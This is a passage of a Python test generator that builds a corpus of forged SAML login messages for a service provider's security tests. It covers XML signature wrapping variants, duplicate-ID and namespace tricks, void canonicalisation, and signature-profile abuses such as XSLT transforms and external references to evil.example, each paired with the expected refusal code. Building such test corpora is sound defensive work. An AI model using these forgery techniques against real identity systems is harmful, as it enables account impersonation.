#!/usr/bin/env python
# SPDX-License-Identifier: Apache-2.0
"""The named attack corpus: one fixture per attack on an input the SP takes from the network.

Each case is a message or a request as an attacker (or a broken IdP) would
send it, built from really signed and encrypted SAML (tests/saml_factory.py,
python-xmlsec), with the one error code the SP must answer with.  It covers
sp-checklist §2 and the issue "Hardening" (XSW1-XSW8, ID tricks, namespace
tricks, void canonicalisation, signature profile, key confusion, comment
injection, parser input, the Redirect binding, encryption, addressing,
time, request binding, LoA, attributes and open redirects), plus a few
*controls*: fixtures built the same way that must be accepted, to prove
that a refusal comes from the one thing each case changes.

Keys: no key is committed.  The corpus is generated from keys made for the
run: the test session generates it from its own session keys
(tests/conftest.py ``key_dir``) before tests/functional/test_attack_corpus.py
and the fuzzers (tests/fuzz) use it, so it is always verifiable in CI and
never stale.  What is committed is the reviewable index,
tests/data/attacks/MANIFEST.json (names, expected codes, one-line reasons),
which a test keeps equal to what this script produces.

Run it by hand to look at the fixtures (fresh TEST-ONLY keys are written
next to them)::

    .venv/bin/python tests/attacks/generate_corpus.py --out /tmp/ekn-attacks
    .venv/bin/python tests/attacks/generate_corpus.py --manifest   # rewrite MANIFEST.json

A fixture is ``<name>.json`` (the form fields or query, the outstanding
request to seed, the expected outcome) and, when there is a SAML message,
``<name>.xml`` (the message as posted).  Names are fixed; contents change
with every run (fresh keys, fresh instants).  Instants are relative to the
corpus's ``now``, to which the test pins the SP's clock.
"""

from __future__ import annotations

import argparse
import base64
import copy
import dataclasses
import datetime as dt
import hashlib
import json
import os
import re
import sys
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field

if __package__ in (None, ""):  # run as a script: the test helpers live in tests/
    sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))

import xmlsec
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from lxml import etree

from ekn_saml.errors import ErrorCode
from ekn_saml.facts import OutstandingRequest, browser_hash
from ekn_saml.identity import (
    DATE_OF_BIRTH,
    ORG_AFFILIATION,
    PERSONAL_IDENTITY_NUMBER,
)
from ekn_saml.redirect_binding import MAX_ENCODED_CHARS, encode_message
from ekn_saml.settings import KNOWN_METHODS, SamlSettings
from ekn_saml.xmlsecurity import NS, PrivateKey, PublicKey

from acs_helpers import (
    PERSON_ATTRIBUTES,
    spec_for,
)
from acs_helpers import Login as HelperLogin
from attacks import adversarial
from saml_factory import A, P, ResponseFactory, ResponseSpec, custom_encrypt, custom_sign, instant, reencrypting
from testbed import ACS_URL, BANKID_IDP, EXPISOFT_IDP, LOA3, LOA3_NONRESIDENT, MULTIKEY_IDP, OTHER_IDP

T = xmlsec.Transform
DS = "{{{}}}".format(NS["ds"])
XENC = "{{{}}}".format(NS["xenc"])
HERE = os.path.dirname(os.path.abspath(__file__))
MANIFEST = os.path.join(os.path.dirname(HERE), "data", "attacks", "MANIFEST.json")

# The numbers the checks use, from the settings' own defaults (the corpus app uses them).
_DEFAULTS = {f.name: f.default for f in dataclasses.fields(SamlSettings)}
SKEW = _DEFAULTS["clock_skew"]
MAX_AGE = _DEFAULTS["max_response_age"]
MAX_RESPONSE_BYTES = _DEFAULTS["max_response_bytes"]

VICTIM_PNR = "197512249819"  # a persona of the development IdP: the person an attacker wants to be
EVIL = "https://evil.example"
ENDPOINTS = ("acs", "login", "login_start", "lang", "redirect_binding")
EXPECTS = ("refused", "dropped", "accepted")


# ---------------------------------------------------------------- the fixture format


@dataclass(frozen=True)
class Seed:
    """The outstanding request a fixture answers: the test stores it as ``start_login`` would."""

    request_id: str
    relay_state: str
    browser_token: str
    method: str
    idp_entity_id: str
    loa: tuple[str, ...]
    issued_at: float
    next_path: str = "/mina-sidor"

    def record(self) -> dict:
        """The store record, as start_login writes it (ekn_saml.facts.OutstandingRequest.to_dict)."""
        return OutstandingRequest(
            request_id=self.request_id,
            method=self.method,
            idp_entity_id=self.idp_entity_id,
            loa=self.loa,
            issued_at=self.issued_at,
            browser=browser_hash(self.browser_token),
            relay_state=self.relay_state,
            next_path=self.next_path,
        ).to_dict()


@dataclass
class Case:
    """One fixture.  ``expect``: refused (with ``code``), dropped (unsafe target ignored) or accepted."""

    name: str
    group: str
    endpoint: str
    expect: str
    code: str | None
    doc: str
    form: dict[str, str] | None = None  # ACS POST fields (absent key = field not sent)
    path: str | None = None  # login_start: /login/<method>; lang: /lang/<code>
    query: dict[str, str] | None = None
    raw_query: str | None = None  # sent as is (bytes that are not UTF-8)
    seed: Seed | None = None  # stored before the post
    browser: str = "seed"  # seed: the seed's browser cookie; other: another token; none: no cookie
    steps: tuple[str, ...] = ()  # see tests/functional/test_attack_corpus.py
    valid_message: bool = (
        False  # the message itself is a good login; the attack is around it (replay, cookie, RelayState)
    )
    # sha256 of the signed content (content_digest) of every valid login for the
    # seed's request that the test IdP signed while making this case, such as a
    # captured Response wrapped by an XSW case: the fuzzers' forgery oracle
    authorised: list[str] = field(default_factory=list)
    xml: bytes | None = None

    def to_json(self) -> dict:
        data = dataclasses.asdict(self)
        data.pop("xml")
        return data

    @classmethod
    def from_json(cls, data: dict, xml: bytes | None) -> Case:
        seed = data.pop("seed")
        data["steps"] = tuple(data["steps"])
        return cls(**data, seed=Seed(**{**seed, "loa": tuple(seed["loa"])}) if seed else None, xml=xml)

    def manifest_entry(self) -> dict:
        return {
            "name": self.name,
            "group": self.group,
            "endpoint": self.endpoint,
            "expect": self.expect,
            "code": self.code,
            "doc": self.doc,
        }


# ---------------------------------------------------------------- the keys and the clock


@dataclass(frozen=True)
class KeySet:
    """The test keys a corpus is made with (all TEST ONLY, made for the run)."""

    idp_key: PrivateKey
    idp_cert: PublicKey
    attacker_key: PrivateKey
    attacker_cert: PublicKey
    sp_encryption_cert: PublicKey

    @classmethod
    def from_dir(cls, directory: str) -> KeySet:
        def cert(stem):
            with open(os.path.join(directory, stem + ".crt"), "rb") as fh:
                return PublicKey.from_pem(fh.read())

        def key(stem):
            return PrivateKey.from_file(os.path.join(directory, stem + ".key"))

        return cls(key("idp"), cert("idp"), key("attacker"), cert("attacker"), cert("sp-encryption"))


class Ctx:
    """What a case builder gets: the keys, the factories, the corpus's ``now`` (whole seconds)."""

    def __init__(self, keys: KeySet, now: dt.datetime) -> None:
        self.keys = keys
        self.now = now.replace(microsecond=0)
        self.idp = ResponseFactory(keys.idp_key, keys.idp_cert, keys.sp_encryption_cert)
        self.attacker = ResponseFactory(keys.attacker_key, keys.attacker_cert, keys.sp_encryption_cert)
        self.authorised: set[str] = set()  # see Case.authorised; reset for each case

    def authorise(self, message: bytes | etree._Element) -> None:
        """Note a valid login the test IdP signed while making the current case."""
        self.authorised.add(content_digest(message))

    def seed(self, name: str, method: str = "bankid") -> Seed:
        digest = hashlib.sha256(name.encode()).hexdigest()
        return Seed(
            request_id="_" + digest[:40],
            relay_state="rs-" + digest[40:56],
            browser_token="browser-" + digest[56:],
            method=method,
            idp_entity_id=EXPISOFT_IDP if method == "expisoft" else BANKID_IDP,
            loa=tuple(KNOWN_METHODS[method]["loa"]),
            issued_at=(self.now - dt.timedelta(seconds=5)).timestamp(),
        )

    def spec(self, seed: Seed, **overrides) -> ResponseSpec:
        login = HelperLogin(seed.request_id, seed.relay_state, seed.browser_token, seed.method)
        return spec_for(login, now=self.now, **overrides)

    def victim_attributes(self) -> dict[str, list[str]]:
        attributes = {k: list(v) for k, v in PERSON_ATTRIBUTES.items()}
        attributes[PERSONAL_IDENTITY_NUMBER] = [VICTIM_PNR]
        return attributes


def b64(xml: bytes) -> str:
    return base64.b64encode(xml).decode()


_CONTENT_PARSER = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False, huge_tree=False)


def signed_content(message: bytes | etree._Element) -> bytes | None:
    """Exclusive canonical form of a message without its enveloped Signature: what the IdP's signature vouches for.

    ``None`` if it does not parse.  Comments, unused namespace declarations
    and the prolog (a DOCTYPE) are not part of it, as they are not signed.
    """
    if isinstance(message, bytes):
        try:
            root = etree.fromstring(message, _CONTENT_PARSER)
        except (etree.XMLSyntaxError, ValueError):
            return None
    else:
        root = copy.deepcopy(message)
    for signature in root.findall(DS + "Signature"):
        root.remove(signature)
    return etree.tostring(root, method="c14n", exclusive=True, with_comments=False)


def content_digest(message: bytes | etree._Element) -> str | None:
    content = signed_content(message)
    return hashlib.sha256(content).hexdigest() if content is not None else None


def tostring(element: etree._Element) -> bytes:
    return etree.tostring(element)


# ---------------------------------------------------------------- the registry


@dataclass(frozen=True)
class CaseDef:
    name: str
    group: str
    code: ErrorCode | None
    expect: str
    endpoint: str
    doc: str
    build: Callable[[Ctx, CaseDef], dict]


REGISTRY: list[CaseDef] = []


def case(name: str, group: str, code: ErrorCode | None, *, expect: str = "refused", endpoint: str = "acs"):
    """Register a builder; its docstring is the fixture's one-line reason (the attack, and why this code)."""
    assert endpoint in ENDPOINTS and expect in EXPECTS and (code is None) == (expect != "refused"), name

    def register(build):
        doc = " ".join((build.__doc__ or "").split())
        assert doc, f"{name}: say in a docstring what the attack is and why this code"
        REGISTRY.append(CaseDef(name, group, code, expect, endpoint, doc, build))
        return build

    return register


def acs_case(ctx: Ctx, d: CaseDef, xml: bytes | None, seed: Seed | None, **fields) -> dict:
    """Fields of an ACS fixture posting ``xml`` (base64) with the seed's RelayState."""
    form = {"SAMLResponse": b64(xml) if xml is not None else ""}
    if seed is not None:
        form["RelayState"] = seed.relay_state
    form.update(fields.pop("form", {}))
    return dict(form=form, seed=seed, xml=xml, **fields)


def signed(
    ctx: Ctx,
    d: CaseDef,
    method: str = "bankid",
    factory: ResponseFactory | None = None,
    valid_message: bool = False,
    **overrides,
) -> dict:
    """The common case: one message from ``spec(**overrides)``, answering a seeded request."""
    seed = ctx.seed(d.name, method)
    # A valid message the IdP signs and a case then changes (post_process) is an
    # authorised login: undoing the change (which fuzzers do) may log in.
    valid = factory is None and set(overrides) <= {"post_process"}
    if valid and "post_process" in overrides:
        change = overrides["post_process"]
        overrides["post_process"] = lambda r: (ctx.authorise(r), change(r))
    root = (factory or ctx.idp).build(ctx.spec(seed, **overrides))
    if valid and "post_process" not in overrides:
        ctx.authorise(root)
    return acs_case(ctx, d, tostring(root), seed, valid_message=valid_message)


def _simple(name, group, code, doc, method="bankid", **overrides):
    """Register a case that is :func:`signed` with ``overrides``."""

    def build(ctx, d):
        return signed(ctx, d, method, **overrides)

    build.__doc__ = doc
    case(name, group, code)(build)


# ---------------------------------------------------------------- XSW1-XSW8

# The attacker holds one validly signed Response (their own login, or one
# captured) and can encrypt anything to the SP's public certificate, but
# cannot sign.  XSW1/2 keep the signed Response whole and hide it; XSW3-8
# wrap the signed assertion inside the Response (Somorovsky et al., "On
# Breaking SAML", 2012).  Our Response signature covers the whole message,
# so the assertion-level variants are shown twice: with the Response
# signature kept (it no longer verifies) and stripped.


def _captured(ctx: Ctx, seed: Seed, *, plain: bool = False) -> etree._Element:
    """A legitimately signed Response for ``seed`` (assertion signed; encrypted unless ``plain``)."""
    root = ctx.idp.build(ctx.spec(seed, encrypt=not plain))
    if not plain:  # a plain assertion is itself refused (encryption is required)
        ctx.authorise(root)
    return root


def _evil_assertion(ctx: Ctx, seed: Seed) -> etree._Element:
    """An assertion made by the attacker for the victim: unsigned (they have no IdP key)."""
    spec = ctx.spec(seed, attributes=ctx.victim_attributes(), sign_assertion=False, encrypt=False, sign_response=False)
    return ctx.idp.build(spec).find("saml:Assertion", NS)


def _evil_response(ctx: Ctx, seed: Seed) -> etree._Element:
    """An unsigned Response carrying the attacker's assertion, encrypted to the SP (anyone can)."""
    spec = ctx.spec(seed, attributes=ctx.victim_attributes(), sign_assertion=False, sign_response=False)
    return ctx.idp.build(spec)


def _strip_response_signature(root: etree._Element) -> None:
    root.remove(root.find("ds:Signature", NS))


@case("xsw1-signed-response-inside-signature-of-evil-response", "xsw", ErrorCode.SIGNATURE_PROFILE_VIOLATION)
def _xsw1(ctx, d):
    """XSW1: an evil Response holds the captured Signature, with the whole signed Response inside it; its Reference is not the root's ID."""
    seed = ctx.seed(d.name)
    captured, evil = _captured(ctx, seed), _evil_response(ctx, seed)
    signature = copy.deepcopy(captured.find("ds:Signature", NS))
    evil.find("saml:Issuer", NS).addnext(signature)
    signature.append(captured)
    return acs_case(ctx, d, tostring(evil), seed)


@case("xsw2-signed-response-beside-detached-signature", "xsw", ErrorCode.SIGNATURE_PROFILE_VIOLATION)
def _xsw2(ctx, d):
    """XSW2: the signed Response sits before a detached copy of its Signature inside an evil Response; the Reference is not the root's ID."""
    seed = ctx.seed(d.name)
    captured, evil = _captured(ctx, seed), _evil_response(ctx, seed)
    signature = copy.deepcopy(captured.find("ds:Signature", NS))
    issuer = evil.find("saml:Issuer", NS)
    issuer.addnext(signature)
    issuer.addnext(captured)
    return acs_case(ctx, d, tostring(evil), seed)


def _assertion_xsw(variant: int, keep_response_signature: bool):
    def build(ctx, d):
        seed = ctx.seed(d.name)
        root = _captured(ctx, seed, plain=True)
        signed_assertion = root.find("saml:Assertion", NS)
        evil = _evil_assertion(ctx, seed)
        evil.set("ID", "_evil" + signed_assertion.get("ID")[2:])
        if variant == 3:  # evil assertion before the signed one
            signed_assertion.addprevious(evil)
        elif variant == 4:  # the signed assertion inside the evil one
            signed_assertion.addprevious(evil)
            evil.append(signed_assertion)
        elif variant == 5:  # the signature moved to the evil assertion, the original (unsigned copy) after it
            signature = signed_assertion.find("ds:Signature", NS)
            evil.find("saml:Issuer", NS).addnext(signature)
            evil.set("ID", signed_assertion.get("ID"))
            signed_assertion.set("ID", "_orig" + signed_assertion.get("ID")[2:])
            signed_assertion.addprevious(evil)
        elif variant == 6:  # as 5, with the original inside the moved signature
            signature = signed_assertion.find("ds:Signature", NS)
            evil.find("saml:Issuer", NS).addnext(signature)
            evil.set("ID", signed_assertion.get("ID"))
            signed_assertion.addprevious(evil)
            signed_assertion.set("ID", "_orig" + signed_assertion.get("ID")[2:])
            signature.append(signed_assertion)
        elif variant == 7:  # the signed assertion moved into samlp:Extensions (schema-valid place: after Signature)
            extensions = etree.Element(P + "Extensions")
            root.find("ds:Signature", NS).addnext(extensions)
            signed_assertion.addprevious(evil)
            extensions.append(signed_assertion)
        elif variant == 8:  # the original (signature removed) inside ds:Object of the evil one's signature
            signature = signed_assertion.find("ds:Signature", NS)
            evil.find("saml:Issuer", NS).addnext(signature)
            evil.set("ID", signed_assertion.get("ID"))
            signed_assertion.addprevious(evil)
            signed_assertion.set("ID", "_orig" + signed_assertion.get("ID")[2:])
            etree.SubElement(signature, DS + "Object").append(signed_assertion)
        if not keep_response_signature:
            _strip_response_signature(root)
        return acs_case(ctx, d, tostring(root), seed)

    return build


_XSW = {
    3: ("evil-assertion-before-signed-one", "an unsigned evil assertion before the signed one"),
    4: ("signed-assertion-inside-evil-assertion", "the signed assertion wrapped inside an evil one"),
    5: (
        "signature-moved-to-evil-assertion",
        "the signature moved to an evil assertion with the original's ID, the original renamed after it",
    ),
    6: ("original-inside-moved-signature", "as XSW5, with the original assertion inside the moved Signature"),
    7: (
        "signed-assertion-moved-to-extensions",
        "the signed assertion moved into samlp:Extensions, an evil one in its place",
    ),
    8: ("original-in-ds-object", "as XSW5, with the original assertion inside a ds:Object of the moved Signature"),
}
# What stops each: with the Response signature kept, the digest of the
# Response (its signature covers the whole message, and it is checked before
# anything inside is read); with it stripped, the rule that the Response must
# be signed.
_XSW_KEPT = {
    3: (
        ErrorCode.SIGNATURE_INVALID,
        "the Response signature covers the whole message, so its digest no longer matches",
    ),
    4: (
        ErrorCode.SIGNATURE_INVALID,
        "the Response signature covers the whole message, so its digest no longer matches",
    ),
    5: (
        ErrorCode.SIGNATURE_INVALID,
        "the Response signature covers the whole message, so its digest no longer matches",
    ),
    6: (
        ErrorCode.SIGNATURE_INVALID,
        "the Response signature covers the whole message, so its digest no longer matches",
    ),
    7: (
        ErrorCode.SIGNATURE_INVALID,
        "the Response signature covers the whole message, so its digest no longer matches",
    ),
    8: (
        ErrorCode.SIGNATURE_INVALID,
        "the Response signature covers the whole message, so its digest no longer matches",
    ),
}
for _n, (_slug, _what) in _XSW.items():
    _code, _why = _XSW_KEPT[_n]
    _b = _assertion_xsw(_n, True)
    _b.__doc__ = f"XSW{_n}: {_what}, Response signature kept: {_why}."
    case(f"xsw{_n}-{_slug}-response-signature-kept", "xsw", _code)(_b)
    _b = _assertion_xsw(_n, False)
    _b.__doc__ = f"XSW{_n}: {_what}, Response signature stripped: the Response must be signed."
    case(f"xsw{_n}-{_slug}-response-signature-stripped", "xsw", ErrorCode.RESPONSE_NOT_SIGNED)(_b)


# ---------------------------------------------------------------- duplicate IDs and ID pollution


@case("ids-response-id-repeated-in-extensions", "ids", ErrorCode.XML_DUPLICATE_ID)
def _ids_repeat(ctx, d):
    """A copy of the signed Response's ID on another element, for an ID resolver to pick the wrong one (CVE-2020-5390)."""
    seed = ctx.seed(d.name)
    root = _captured(ctx, seed)
    extensions = etree.Element(P + "Extensions")
    root.find("saml:Issuer", NS).addnext(extensions)
    etree.SubElement(extensions, A + "Assertion", ID=root.get("ID"))
    return acs_case(ctx, d, tostring(root), seed)


@case("ids-wrapped-response-keeps-the-signed-id", "ids", ErrorCode.XML_DUPLICATE_ID)
def _ids_wrapped_same_id(ctx, d):
    """An evil Response takes the signed Response's ID and Signature, the signed one hidden in Extensions: two elements with one ID."""
    seed = ctx.seed(d.name)
    captured, evil = _captured(ctx, seed), _evil_response(ctx, seed)
    evil.set("ID", captured.get("ID"))
    evil.find("saml:Issuer", NS).addnext(copy.deepcopy(captured.find("ds:Signature", NS)))
    extensions = etree.Element(P + "Extensions")
    evil.find("ds:Signature", NS).addnext(extensions)
    extensions.append(captured)
    return acs_case(ctx, d, tostring(evil), seed)


@case("ids-assertion-id-equals-response-id", "ids", ErrorCode.XML_DUPLICATE_ID)
def _ids_assertion_same(ctx, d):
    """The decrypted assertion has the Response's ID: the ID check runs again on the tree after decryption."""
    seed = ctx.seed(d.name)
    spec = ctx.spec(seed)
    spec.assertion_id = spec.response_id
    return acs_case(ctx, d, tostring(ctx.idp.build(spec)), seed)


@case("ids-namespaced-id-beside-id-on-response", "ids", ErrorCode.XML_DUPLICATE_ID)
def _ids_pollution(ctx, d):
    """ID attribute pollution: samlp:ID next to ID on the Response, for resolvers that read either."""
    seed = ctx.seed(d.name)
    root = _captured(ctx, seed)
    root.set("{{{}}}ID".format(NS["samlp"]), "_other")
    return acs_case(ctx, d, tostring(root), seed)


@case("ids-namespaced-id-inside-encrypted-assertion", "ids", ErrorCode.XML_DUPLICATE_ID)
def _ids_pollution_inside(ctx, d):
    """ID pollution inside the encrypted assertion (signed by the IdP): found by the check after decryption."""
    return signed(ctx, d, mutate_assertion=lambda a: a.set("{{{}}}ID".format(NS["saml"]), "_other"))


@case("ids-signature-id-equals-response-id", "ids", ErrorCode.XML_DUPLICATE_ID)
def _ids_signature_id(ctx, d):
    """The ds:Signature element carries Id equal to the Response's ID (xmlsec resolves Id too)."""
    seed = ctx.seed(d.name)
    root = _captured(ctx, seed)
    root.find("ds:Signature", NS).set("Id", root.get("ID"))
    return acs_case(ctx, d, tostring(root), seed)


# ---------------------------------------------------------------- namespace tricks and void canonicalisation


def _inject_in_root_tag(xml: bytes, text: bytes) -> bytes:
    """Insert ``text`` into the root element's start tag (as an attacker edits the bytes)."""
    start = xml.index(b"<samlp:Response") + len(b"<samlp:Response")
    return xml[:start] + b" " + text + xml[start:]


def _captured_edited(ctx: Ctx, d: CaseDef, edit) -> dict:
    """The case's seed message as the IdP signed it, its bytes changed by ``edit`` after signing."""
    seed = ctx.seed(d.name)
    return acs_case(ctx, d, edit(tostring(_captured(ctx, seed))), seed)


def _signed_bytes_with(ctx: Ctx, d: CaseDef, text: bytes) -> dict:
    return _captured_edited(ctx, d, lambda xml: _inject_in_root_tag(xml, text))


@case("ns-xml-prefix-rebound", "namespace", ErrorCode.XML_MALFORMED)
def _ns_xml_rebound(ctx, d):
    """xmlns:xml bound to another URI (the xml: prefix is fixed by the Namespaces spec): not namespace-well-formed."""
    return _signed_bytes_with(ctx, d, b'xmlns:xml="urn:evil"')


@case("ns-xmlns-prefix-declared", "namespace", ErrorCode.XML_MALFORMED)
def _ns_xmlns_declared(ctx, d):
    """A declaration of the reserved xmlns: prefix: not namespace-well-formed."""
    return _signed_bytes_with(ctx, d, b'xmlns:xmlns="urn:evil"')


@case("ns-xml-xmlns-attribute-after-signing", "namespace", ErrorCode.SIGNATURE_INVALID)
def _ns_xml_xmlns(ctx, d):
    """An xml:xmlns attribute added to the signed Response (a parser-differential trick): the Response digest no longer matches."""
    return _signed_bytes_with(ctx, d, b'xml:xmlns="urn:oasis:names:tc:SAML:2.0:assertion"')


@case("ns-saml-prefix-rebound-on-issuer", "namespace", ErrorCode.ISSUER_UNKNOWN)
def _ns_issuer_rebound(ctx, d):
    """The Issuer's saml: prefix rebound to a look-alike namespace: there is then no saml:Issuer at all."""
    return _captured_edited(
        ctx,
        d,
        lambda xml: xml.replace(
            b"<saml:Issuer>", b'<saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion#">', 1
        ),
    )


@case("ns-response-in-saml1-protocol-namespace", "namespace", ErrorCode.NOT_A_RESPONSE)
def _ns_saml1(ctx, d):
    """The samlp: prefix bound to the SAML 1.x protocol namespace: the root is not a SAML 2.0 Response."""
    return _captured_edited(
        ctx, d, lambda xml: xml.replace(NS["samlp"].encode(), b"urn:oasis:names:tc:SAML:1.0:protocol")
    )


def _encrypted_instead(ctx: Ctx, tag: str):
    """mutate_response: the EncryptedAssertion holds an encrypted ``tag`` element instead of the assertion."""

    def swap(r):
        container = r.find("saml:EncryptedAssertion", NS)
        for child in list(container):
            container.remove(child)
        element = etree.SubElement(container, tag, ID="_inner", Version="2.0", IssueInstant=instant(ctx.now))
        custom_encrypt(element, ctx.keys.sp_encryption_cert, data_transform=T.AES256, key_transform=T.RSA_OAEP)

    return swap


@case("ns-assertion-in-foreign-namespace", "namespace", ErrorCode.ASSERTION_COUNT)
def _ns_foreign_assertion(ctx, d):
    """The encrypted element (signed by the IdP) is an Assertion in a look-alike namespace, not saml:Assertion."""
    return signed(ctx, d, mutate_response=_encrypted_instead(ctx, "{urn:evil:assertion}Assertion"))


@case("ns-default-namespace-undeclared-on-issuer", "namespace", ErrorCode.XML_NAMESPACE_INVALID)
def _ns_undeclare(ctx, d):
    """An Issuer in no namespace (xmlns=""), which a prefix-blind reader takes for saml:Issuer; the empty namespace name is refused."""
    return _captured_edited(
        ctx, d, lambda xml: re.sub(rb"<saml:Issuer>(.*?)</saml:Issuer>", rb'<Issuer xmlns="">\1</Issuer>', xml, count=1)
    )


@case("void-c14n-relative-namespace-uri", "void-c14n", ErrorCode.XML_NAMESPACE_INVALID)
def _void_relative(ctx, d):
    """A relative namespace URI, which makes canonicalisation fail or come out empty in some libraries (ruby-saml CVE-2025-66568)."""
    return _signed_bytes_with(ctx, d, b'xmlns:x="relative/ns"')


@case("void-c14n-relative-namespace-on-signed-info", "void-c14n", ErrorCode.XML_NAMESPACE_INVALID)
def _void_relative_signed_info(ctx, d):
    """A relative namespace URI declared on ds:SignedInfo itself, where canonicalisation of the signature starts."""
    return _captured_edited(ctx, d, lambda xml: xml.replace(b"<ds:SignedInfo>", b'<ds:SignedInfo xmlns:v="void">', 1))


@case("void-c14n-digest-of-empty-node-set", "void-c14n", ErrorCode.SIGNATURE_PROFILE_VIOLATION)
def _void_digest(ctx, d):
    """The DigestValue is SHA-256 of nothing: a signature over an empty node set, refused before any crypto."""

    def void(r):
        r.find(
            "ds:Signature/ds:SignedInfo/ds:Reference/ds:DigestValue", NS
        ).text = "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="

    return signed(ctx, d, post_process=void)


# ---------------------------------------------------------------- signature profile


def _resign(
    ctx: Ctx, d: CaseDef, key: PrivateKey | None = None, *, method: str = "bankid", spec_overrides=None, **sign
) -> dict:
    """A Response signed by custom_sign(**sign) instead of the normal signature."""
    seed = ctx.seed(d.name, method)
    overrides = dict(spec_overrides or {})
    overrides.update(sign_response=False, post_process=lambda r: custom_sign(r, key or ctx.keys.idp_key, **sign))
    return acs_case(ctx, d, tostring(ctx.idp.build(ctx.spec(seed, **overrides))), seed)


def _after_signing(ctx: Ctx, d: CaseDef, change, **overrides) -> dict:
    """A normally signed Response, changed afterwards by ``change(root)``."""
    return signed(ctx, d, post_process=change, **overrides)


@case("sig-reference-uri-empty-whole-document", "signature", ErrorCode.SIGNATURE_PROFILE_VIOLATION)
def _sig_ref_empty(ctx, d):
    """Reference URI="" (the whole document) instead of the Response's own ID."""
    return _resign(ctx, d, reference_uri="")


@case("sig-reference-uri-points-at-assertion", "signature", ErrorCode.SIGNATURE_PROFILE_VIOLATION)
def _sig_ref_other(ctx, d):
    """The Response signature's Reference names the (plain) assertion's ID, not the Response's."""
    seed = ctx.seed(d.name)
    spec = ctx.spec(seed, encrypt=False, sign_response=False)
    spec.post_process = lambda r: custom_sign(r, ctx.keys.idp_key, reference_uri="#" + spec.assertion_id)
    return acs_case(ctx, d, tostring(ctx.idp.build(spec)), seed)


@case("sig-reference-uri-external-document", "signature", ErrorCode.SIGNATURE_PROFILE_VIOLATION)
def _sig_ref_external(ctx, d):
    """A Reference to an external document (fetched by lax verifiers); refused before anything is fetched."""
    return _after_signing(
        ctx, d, lambda r: r.find("ds:Signature/ds:SignedInfo/ds:Reference", NS).set("URI", EVIL + "/signed.xml")
    )


@case("sig-reference-uri-xpointer", "signature", ErrorCode.SIGNATURE_PROFILE_VIOLATION)
def _sig_ref_xpointer(ctx, d):
    """A Reference URI using an XPointer expression (#xpointer(/)) instead of a bare ID."""
    return _after_signing(
        ctx, d, lambda r: r.find("ds:Signature/ds:SignedInfo/ds:Reference", NS).set("URI", "#xpointer(/)")
    )


@case("sig-two-references", "signature", ErrorCode.SIGNATURE_PROFILE_VIOLATION)
def _sig_two_refs(ctx, d):
    """A SignedInfo with two References: which one covers what the SP reads is then ambiguous."""
    seed = ctx.seed(d.name)
    spec = ctx.spec(seed, sign_response=False)
    spec.post_process = lambda r: custom_sign(r, ctx.keys.idp_key, second_reference_uri="#" + spec.response_id)
    return acs_case(ctx, d, tostring(ctx.idp.build(spec)), seed)


@case("sig-transform-inclusive-c14n", "signature", ErrorCode.SIGNATURE_PROFILE_VIOLATION)
def _sig_inclusive(ctx, d):
    """Inclusive canonicalisation as a Reference transform (only enveloped-signature and exc-c14n are allowed)."""
    return _resign(ctx, d, transforms=(T.ENVELOPED, T.C14N))


def _add_transform(algorithm: str, child: str | None = None):
    def change(r):
        # xpath, not find: lxml's find misses elements xmlsec's templates made (names not interned)
        transforms = r.xpath("ds:Signature/ds:SignedInfo/ds:Reference/ds:Transforms", namespaces=NS)[0]
        transform = etree.SubElement(transforms, DS + "Transform", Algorithm=algorithm)
        if child:
            transform.append(etree.fromstring(child))

    return change


@case("sig-transform-xpath", "signature", ErrorCode.SIGNATURE_PROFILE_VIOLATION)
def _sig_xpath(ctx, d):
    """An XPath filter transform, which can select nothing or something else than the element."""
    return _after_signing(
        ctx,
        d,
        _add_transform(
            "http://www.w3.org/TR/1999/REC-xpath-19991116",
            f'<ds:XPath xmlns:ds="{NS["ds"]}">not(ancestor-or-self::*)</ds:XPath>',
        ),
    )


@case("sig-transform-xslt", "signature", ErrorCode.SIGNATURE_PROFILE_VIOLATION)
def _sig_xslt(ctx, d):
    """An XSLT transform (code execution in some verifiers)."""
    return _after_signing(ctx, d, _add_transform("http://www.w3.org/TR/1999/REC-xslt-19991116"))


@case("sig-canonicalization-method-inclusive", "signature", ErrorCode.SIGNATURE_PROFILE_VIOLATION)
def _sig_c14n_inclusive(ctx, d):
    """SignedInfo canonicalised with inclusive C14N instead of exc-c14n."""
    return _resign(ctx, d, c14n=T.C14N)


@case("sig-canonicalization-method-with-comments", "signature", ErrorCode.SIGNATURE_PROFILE_VIOLATION)
def _sig_c14n_comments(ctx, d):
    """SignedInfo canonicalised with exc-c14n#WithComments."""
    return _resign(ctx, d, c14n=T.EXCL_C14N_COMMENTS)


@case("sig-ds-object-in-signature", "signature", ErrorCode.SIGNATURE_PROFILE_VIOLATION)
def _sig_object(ctx, d):
    """A ds:Object in the Response's Signature (a hiding place for signed content)."""
    return _after_signing(ctx, d, lambda r: etree.SubElement(r.find("ds:Signature", NS), DS + "Object"))


@case("sig-two-signatures-on-response", "signature", ErrorCode.SIGNATURE_PROFILE_VIOLATION)
def _sig_two(ctx, d):
    """Two enveloped Signatures on the Response (which one did the verifier check?)."""

    def two(r):
        r.find("ds:Signature", NS).addnext(copy.deepcopy(r.find("ds:Signature", NS)))

    return _after_signing(ctx, d, two)


@case("sig-signature-nested-in-extensions", "signature", ErrorCode.RESPONSE_NOT_SIGNED)
def _sig_nested(ctx, d):
    """The Response's Signature moved into samlp:Extensions: a signature not directly in the Response does not sign it."""

    def move(r):
        signature = r.find("ds:Signature", NS)
        extensions = etree.Element(P + "Extensions")
        signature.addprevious(extensions)
        extensions.append(signature)

    return _after_signing(ctx, d, move)


@case("sig-response-without-id", "signature", ErrorCode.SIGNATURE_PROFILE_VIOLATION)
def _sig_no_id(ctx, d):
    """The signed Response loses its ID attribute, so the Reference can resolve to nothing or anything."""
    return _after_signing(ctx, d, lambda r: r.attrib.pop("ID"))


@case("sig-rsa-sha1", "algorithms", ErrorCode.SIGNATURE_ALGORITHM_FORBIDDEN)
def _sig_sha1(ctx, d):
    """Signed with RSA-SHA1 (DP §8: RSA-SHA256 or stronger)."""
    return _resign(ctx, d, sig_transform=T.RSA_SHA1)


@case("sig-digest-sha1", "algorithms", ErrorCode.SIGNATURE_ALGORITHM_FORBIDDEN)
def _sig_digest_sha1(ctx, d):
